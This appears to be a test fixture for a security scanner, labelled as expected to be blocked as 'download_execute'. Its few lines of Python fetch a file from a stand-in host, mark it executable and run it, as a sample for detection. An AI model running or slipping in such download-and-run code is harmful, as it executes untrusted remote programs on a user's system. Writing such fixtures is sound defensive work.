# expect: BLOCKED download_execute
from pathlib import Path
import subprocess
import urllib.request

target = Path("/tmp") / "update"
target.write_bytes(urllib.request.urlopen("http://updates.example/upd").read())
target.chmod(0o755)
subprocess.run([str(target)])
